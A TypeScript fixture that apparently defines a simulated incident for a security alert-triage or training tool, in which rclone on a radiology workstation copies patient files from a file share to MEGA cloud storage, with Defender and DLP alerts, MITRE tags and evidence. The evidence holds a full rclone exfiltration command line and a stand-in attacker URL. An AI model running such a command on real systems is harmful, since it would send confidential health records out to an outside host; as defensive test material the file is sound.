import type { Story } from "./story.ts";

const RCLONE = "C:\\ProgramData\\sys\\rclone.exe";

/** Patients' files on their way out, with a tool that backs up for others. */
export const RCLONE_UPLOAD: Story = {
  name: "Exfiltration incident involving one endpoint",
  alerts: [
    {
      title: "Data exfiltration by a synchronisation tool",
      description: "38 GB were copied from a file share to a cloud storage that nobody here uses.",
      ...{
        severity: "High",
        category: "Exfiltration",
        source: "WindowsDefenderAtp",
        at: 0,
        owner: "carla.weiss",
      },
      mitre: ["T1567.002", "T1039"],
      recommended: "Isolate the device and ask the storage's provider to keep the data.",
      devices: [
        { name: "radiology-pacs02", roles: ["PrimaryDevice"] },
        { name: "files01", roles: ["Source"] },
      ],
      evidence: [
        {
          ...{
            kind: "process",
            pid: 9960,
            parent: 9702,
            parentImage: "C:\\Windows\\System32\\cmd.exe",
            start: -40,
            image: RCLONE,
          },
          line: `${RCLONE} copy "\\\\files01\\patients" mega:b7 --include "*.{pdf,docx,dcm}" --transfers 16 -q --no-check-certificate`,
          ...{ account: "svc-ops", verdict: "malicious", remediation: "active" },
        },
        { kind: "file", path: RCLONE, size: 57_344_000, verdict: "suspicious" },
        { kind: "file", path: "C:\\ProgramData\\sys\\rclone.conf", size: 212 },
        {
          kind: "other",
          type: "fileHash",
          facts: { algorithm: "md5", value: "9e107d9d372bb6826bd81d3542a419d6" },
        },
        { kind: "ip", address: "203.0.113.9", country: "LU" },
        { kind: "url", url: "https://g.api.mega.bad.example/cs" },
        { kind: "user", account: "svc-ops" },
      ],
    },
    {
      title: "DLP policy matched sensitive files on a device",
      description: "Health records left the device over an application that is not allowed.",
      ...{ severity: "Medium", category: "Exfiltration", source: "DataLossPrevention", at: 15 },
      devices: [{ name: "radiology-pacs02", roles: ["PrimaryDevice"] }],
      evidence: [
        { kind: "user", account: "svc-ops" },
        { kind: "file", path: "\\\\files01\\patients\\2026\\list.docx", size: 40_960, verdict: "unknown" },
      ],
    },
  ],
};
